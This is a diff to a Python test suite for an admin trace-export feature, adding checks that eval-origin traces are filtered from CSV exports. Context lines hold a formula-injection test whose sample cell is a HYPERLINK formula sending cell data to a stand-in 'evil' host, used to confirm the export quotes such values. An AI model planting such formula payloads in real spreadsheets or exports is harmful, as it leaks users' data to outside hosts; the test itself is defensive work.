@@ -247,6 +247,12 @@ def csv_export_is_filtered_and_safe_in_spreadsheets():
     eq(e["request_model"], "'@SUM(1)")
     check('"\'=HYPERLINK(""http://evil/?""&A1)"' in r.text, "formula cell not quoted")
     eq(sum(1 for row in rows[1:] if row[header.index("error_code")] == "provider_timeout"), 3)
+    # Traces of `keyrota eval` only with the origin filter, as in the list.
+    ev = insert_one(acct, eval="true")
+    eq([r[0] for r in csv.reader(io.StringIO(export("csv", account_id=acct).text))].count(ev), 0)
+    rows = list(csv.reader(io.StringIO(export("csv", account_id=acct, origin="all").text)))
+    eq({row[0]: row[header.index("eval")] for row in rows[1:]}[ev], "true")
+    eq(len(rows), 1 + 5)
 
 
 @test
@@ -295,7 +301,7 @@ def detail_shows_attempts_w3c_id_and_downloads_json():
     eq(page.status, 200, "detail of " + tid)
     check('<code id="d-w3c">%s</code>' % w3c in page.text, "W3C trace id")
     check(re.search(r'id="d-attempts">1<', page.text), "attempts")
-    check(len(re.findall(TIME_RE, page.text)) == 2, "created and finished as <time>")
+    check(len(re.findall(TIME_RE, page.text)) >= 2, "created and finished as <time>")
     href = link(page.text, "export-trace-json")
     eq(href, "/admin/traces/%s?format=json" % tid)
     d = admin("/admin/traces/" + tid, json_=False, format="json")
